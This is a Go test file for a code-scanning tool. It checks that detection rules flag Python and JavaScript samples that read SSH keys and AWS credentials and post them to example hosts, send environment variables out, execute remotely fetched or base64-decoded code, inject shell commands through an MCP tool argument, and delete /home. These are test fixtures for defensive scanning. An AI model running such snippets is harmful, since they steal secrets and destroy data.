// SPDX-License-Identifier: Apache-2.0

package code

import (
	"context"
	"slices"
	"testing"

	"github.com/reeve-sensor/reeve/sensor/scan/finding"
	"github.com/reeve-sensor/reeve/sensor/scan/text"
)

func rules(t testing.TB, read func(context.Context, *text.Piece, func(finding.Finding)) Result, src string) []string {
	t.Helper()
	var list []string
	read(t.Context(), &text.Piece{File: "x", Text: src, Line: 1, Place: finding.Code}, func(f finding.Finding) { list = append(list, f.Rule) })
	return list
}

func TestPythonIsFollowed(t *testing.T) {
	for name, tc := range map[string]struct{ src, want string }{
		"through a function":    {"import requests\ndef get(p):\n    with open(p) as f:\n        return f.read()\ndef put(d):\n    requests.post('https://in.example.net', json={'d': d})\nput(get('/root/.ssh/id_rsa'))\n", "COD-SECRET-SENT"},
		"through an attribute":  {"import requests\nclass A:\n    def a(self):\n        self.k = open('/root/.ssh/id_rsa').read()\n    def b(self):\n        requests.post('https://in.example.net', data=self.k)\n", "COD-SECRET-SENT"},
		"through a list":        {"import requests\nl = []\nfor p in ['/root/.ssh/id_rsa', '/etc/x']:\n    l.append(open(p).read())\nrequests.post('https://in.example.net', json=l)\n", "COD-SECRET-SENT"},
		"through a format":      {"import os, requests\nu = f'https://in.example.net/?e={os.environ}'\nrequests.get(u)\n", "COD-ENV-SENT"},
		"by another import":     {"from urllib import request as r\nexec(r.urlopen('https://dl.example.net').read())\n", "COD-REMOTE-EXEC"},
		"in a string of a call": {"import subprocess\nsubprocess.run(['bash', '-c', 'x'], shell=True)\neval(input())\n", "COD-EVAL"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := rules(t, Python, tc.src); !slices.Contains(got, tc.want) {
				t.Errorf("told %v, want %s", got, tc.want)
			}
		})
	}
}

func TestScriptIsFollowed(t *testing.T) {
	for name, tc := range map[string]struct{ src, want string }{
		"by a template":     {"const fs = require('fs');\nconst k = fs.readFileSync(`${process.env.HOME}/.ssh/id_rsa`);\nfetch('https://in.example.net', {method: 'POST', body: k});\n", "COD-SECRET-SENT"},
		"by an import":      {"import { readFileSync as r } from 'node:fs';\nimport axios from 'axios';\naxios.post('https://in.example.net', r('/root/.aws/credentials'));\n", "COD-SECRET-SENT"},
		"the environment":   {"fetch('https://in.example.net', {method: 'POST', body: JSON.stringify(process.env)});\n", "COD-ENV-SENT"},
		"decoded":           {"eval(atob('YWxlcnQoMSk='));\n", "COD-DECODED-EXEC"},
		"a tool's argument": {"const { exec } = require('child_process');\nserver.tool('ping', 'Pings a host', {h: z.string()}, async ({ h }) => {\n  exec(`ping ${h}`);\n});\n", "COD-SHELL-PARAM"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := rules(t, Script, tc.src); !slices.Contains(got, tc.want) {
				t.Errorf("told %v, want %s", got, tc.want)
			}
		})
	}
}

func FuzzPython(f *testing.F) {
	f.Add("import os as o\n@mcp.tool()\ndef f(a, b=1):\n    '''d'''\n    try:\n        x = f'{a!r:>{b}}' + \"\"\"q\"\"\"\n    except: pass\n    return eval(x)\n")
	f.Add("with open(a) as b, c() as d:\n\tfor x in b: d.append(x[1:2])\nlambda: (yield)")
	f.Fuzz(func(t *testing.T, s string) { rules(t, Python, s) })
}

func FuzzScript(f *testing.F) {
	f.Add("const {a, b: c} = require('x'); async function* f(x = /re[/]/g) { for await (const y of z) { `t${`u${1}`}`; } }\nx => ({...y})")
	f.Add("import a, {b as c} from 'd'; try { fetch(e) } catch {} f.then(g).catch(() => {})")
	f.Fuzz(func(t *testing.T, s string) { rules(t, Script, s) })
}

// What is only defined is not called, and what has the name of a function may be another one.
func TestWhatIsNoCall(t *testing.T) {
	for name, tc := range map[string]struct{ src, not string }{
		"a method is defined":     {"import socket\nclass S:\n    def connect_ex(self, a):\n        return 1\n", "COD-PORTSCAN"},
		"the class above":         {"class A(B):\n    def __init__(self):\n        B.__init__(self)\n", "COD-HOG"},
		"a function of that name": {"class A:\n    def open(self):\n        return open(self.p)\n", "COD-HOG"},
		"milliseconds of days":    {"d = 3\nt = 86400000 * d\n", "COD-HOG"},
		"what is added to a name": {"import os\np = base\np += '/'\nos.remove(p)\n", "COD-DESTROY"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := rules(t, Python, tc.src); slices.Contains(got, tc.not) {
				t.Errorf("told %v", got)
			}
		})
	}
	for name, tc := range map[string]struct{ src, want string }{
		"a function calls itself": {"def f(x):\n    return f(x + 1)\n", "COD-HOG"},
		"a method calls itself":   {"class A:\n    def f(self):\n        return self.f()\n", "COD-HOG"},
		"a home is removed":       {"import shutil\np = '/home'\nshutil.rmtree(p)\n", "COD-DESTROY"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := rules(t, Python, tc.src); !slices.Contains(got, tc.want) {
				t.Errorf("told %v, want %s", got, tc.want)
			}
		})
	}
}
